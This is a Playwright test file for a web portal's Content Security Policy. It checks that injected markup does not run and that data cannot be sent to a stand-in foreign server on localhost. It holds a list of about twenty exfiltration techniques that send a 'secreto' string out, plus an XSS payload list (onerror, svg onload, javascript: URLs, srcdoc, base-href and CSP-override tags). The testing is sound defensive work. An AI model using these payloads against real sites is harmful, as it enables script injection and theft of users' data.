"""What a script that got into a page could send elsewhere, and whether what gets into a page is a script at all.

`page.evaluate` stands for the script: the policy of content lets none run, and binds whatever one that ran would do.
"""

import socket
import threading
from collections.abc import Iterator, Set
from contextlib import suppress

import pytest
from playwright.sync_api import Page, Route

from tests.esperas import esperar_a
from tests.portal_real import Portal

pytestmark = pytest.mark.navegador
PAGINA_AJENA = b"<!doctype html><title>Ajena</title><body>"
# What each does with the address of somebody else's: `con` makes an element and puts it in the page.
CON = """const con = (etiqueta, datos) => {
  const uno = Object.assign(document.createElement(etiqueta), datos); document.body.append(uno); return uno; };"""
MANERAS = {
    "fetch": "fetch(`${a}/fetch`, { method: 'POST', mode: 'no-cors', body: 'secreto' }).catch(() => 0)",
    "beacon": "navigator.sendBeacon(`${a}/beacon`, 'secreto')",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', `${a}/xhr?secreto`); x.send()",
    "eventos": "new EventSource(`${a}/eventos`)",
    "enchufe": "new WebSocket(`${a.replace('http', 'ws')}/enchufe`)",
    "imagen": "new Image().src = `${a}/imagen?secreto`",
    "guion": "con('script', { src: `${a}/guion` })",
    "modulo": "import(`${a}/modulo`).catch(() => 0)",
    "hoja": "con('link', { rel: 'stylesheet', href: `${a}/hoja` })",
    "letra": "new FontFace('x', `url(${a}/letra)`).load().catch(() => 0)",
    "marco": "con('iframe', { src: `${a}/marco` })",
    "objeto": "con('object', { data: `${a}/objeto` })",
    "video": "con('video', { src: `${a}/video`, preload: 'auto' })",
    "fondo": "con('p', { textContent: 'x' }).style.backgroundImage = `url(${a}/fondo)`",
    "adelanto": "con('link', { rel: 'prefetch', href: `${a}/adelanto` })",
    "previa": "con('link', { rel: 'preload', as: 'fetch', href: `${a}/previa` })",
    "ping": "con('a', { href: '#x', ping: `${a}/ping`, textContent: 'x' }).click()",
    "nombre": "con('link', { rel: 'dns-prefetch', href: a }); con('link', { rel: 'preconnect', href: a })",
    "obrero": "new Worker(URL.createObjectURL(new Blob([`fetch('${a}/obrero', { mode: 'no-cors' })`])))",
    "formulario": "const f = con('form', { action: `${a}/formulario`, method: 'post' }); f.submit()",
}
# It says a name, or opens a connection, and sends nothing by it: from no page is there anything to record.
SIN_OCTETOS = {"nombre"}
ENTRA = """
<script>document.documentElement.dataset.corrio = 'script';</script>
<script src="data:text/javascript,document.documentElement.dataset.corrio = 'data'"></script>
<script src="{ajena}/guion.js"></script>
<script src="/api/v1/opiniones/EKU9003173C9?callback=alert"></script>
<img src="/no-existe" onerror="document.documentElement.dataset.corrio = 'onerror'">
<svg onload="document.documentElement.dataset.corrio = 'svg'"><script>parent.corrio = 1</script></svg>
<iframe srcdoc="<script>parent.document.documentElement.dataset.corrio = 'srcdoc'</script>"></iframe>
<iframe src="javascript:parent.document.documentElement.dataset.corrio = 'marco'"></iframe>
<object data="data:text/html,<script>parent.corrio = 1</script>"></object>
<embed src="{ajena}/incrustado">
<link rel="stylesheet" href="{ajena}/hoja"><style>body {{ background: url({ajena}/fondo) }}</style>
<p style="background: url({ajena}/estilo)">x</p>
<details ontoggle="document.documentElement.dataset.corrio = 'ontoggle'" open><summary>x</summary></details>
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<base href="{ajena}/">
<a id="liga" href="javascript:document.documentElement.dataset.corrio = 'liga'">x</a>
<form action="{ajena}/envio" method="post"><button id="envio">x</button></form>
<form action="javascript:document.documentElement.dataset.corrio = 'accion'"><button id="accion">x</button></form>
"""


class Ajena:
    """Somebody else's server: it keeps what reaches it, and gives one page to whoever asks."""

    def __init__(self) -> None:
        self.recibido: list[bytes] = []
        self._oyente = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.url = f"http://127.0.0.1:{self._oyente.getsockname()[1]}"
        threading.Thread(target=self._aceptar, daemon=True).start()

    def _aceptar(self) -> None:
        with suppress(OSError):
            while True:
                conexion, _ = self._oyente.accept()
                threading.Thread(target=self._atender, args=(conexion,), daemon=True).start()

    def _atender(self, conexion: socket.socket) -> None:
        with conexion, suppress(OSError):
            if octetos := conexion.recv(8192):
                self.recibido.append(octetos)
                cabeceras = b"Content-Type: text/html\r\nConnection: close\r\nContent-Length: %d" % len(
                    PAGINA_AJENA
                )
                conexion.sendall(b"HTTP/1.1 200 OK\r\n" + cabeceras + b"\r\n\r\n" + PAGINA_AJENA)

    def maneras(self) -> set[str]:
        """Return by which ways something arrived, and forget it."""
        llegadas = self.llegadas()
        self.recibido.clear()
        return llegadas

    def llegadas(self) -> set[str]:
        renglones = [octetos.split(b"\r\n")[0].decode(errors="replace") for octetos in self.recibido]
        llegadas = {renglon.split(" ")[1].lstrip("/").split("?")[0] for renglon in renglones}
        return llegadas - {"", "favicon.ico"}  # what a browser that visits it asks for

    def cerrar(self) -> None:
        self._oyente.close()


@pytest.fixture
def ajena() -> Iterator[Ajena]:
    una = Ajena()
    yield una
    una.cerrar()


def intentar(pagina: Page, direccion: str, ajena: Ajena, *, esperadas: Set[str] = frozenset()) -> set[str]:
    """Try each way from that page, and return those by which something arrived."""
    pagina.goto(direccion)
    ajena.recibido.clear()
    for manera in MANERAS.values():
        pagina.evaluate(f"async (a) => {{ {CON} try {{ {manera}; }} catch {{}} }}", ajena.url)
    if esperadas:
        esperar_a(lambda: ajena.llegadas() >= esperadas or pagina.wait_for_timeout(50) is not None)
    else:
        pagina.wait_for_timeout(1500)
    return ajena.maneras()


def test_nada_sale_de_la_pagina_que_firma(pagina: Page, portal: Portal, ajena: Ajena) -> None:
    """From a page without policy every one of them arrives, so that each is known to work."""
    assert intentar(pagina, f"{portal.url}/ingresar/", ajena) == set()
    assert pagina.url == f"{portal.url}/ingresar/#x"
    todas = set(MANERAS) - SIN_OCTETOS
    assert intentar(pagina, f"{ajena.url}/", ajena, esperadas=todas) == todas


def test_lo_que_entra_en_una_pagina_no_corre(pagina: Page, portal: Portal, ajena: Ajena) -> None:
    def con_lo_ajeno(ruta: Route) -> None:
        respuesta = ruta.fetch()
        cuerpo = respuesta.text().replace("</main>", ENTRA.format(ajena=ajena.url) + "</main>")
        assert cuerpo != respuesta.text()
        ruta.fulfill(response=respuesta, body=cuerpo)

    direccion = f"{portal.url}/ingresar/"
    pagina.route(direccion, con_lo_ajeno)
    pagina.goto(direccion)
    for boton in ("#liga", "#accion", "#envio"):
        pagina.locator(boton).evaluate("uno => uno.click()")
        pagina.wait_for_timeout(200)
    assert pagina.evaluate("document.documentElement.dataset.corrio ?? ''") == ""
    assert pagina.evaluate("document.baseURI") == direccion == pagina.url
    assert ajena.maneras() == set()


def test_que_se_permite_a_otros_sitios_y_a_los_propios(pagina: Page, portal: Portal, ajena: Ajena) -> None:
    """Another site's page reads the public API, as CORS says, and embeds nothing; ours have no power of a browser's."""
    pagina.goto(f"{ajena.url}/")
    leido = pagina.evaluate(
        "async (url) => (await (await fetch(url)).json()).codigo",
        f"{portal.url}/api/v1/opiniones/EKU9003173C9",
    )
    assert leido == "no_publica"
    for ruta in ("/legal/", "/readyz", "/api/v1/openapi.json"):
        cargo = pagina.evaluate(
            "(url) => fetch(url, { mode: 'no-cors' }).then(() => true, () => false)", portal.url + ruta
        )
        assert not cargo, ruta
    quejas: list[str] = []
    pagina.on("console", lambda mensaje: quejas.append(mensaje.text))
    pagina.goto(f"{portal.url}/ingresar/")
    permitido = set(pagina.evaluate("document.featurePolicy.allowedFeatures()"))
    assert "clipboard-write" in permitido
    assert not permitido & {
        "camera",
        "microphone",
        "geolocation",
        "payment",
        "usb",
        "serial",
        "clipboard-read",
    }
    assert not quejas
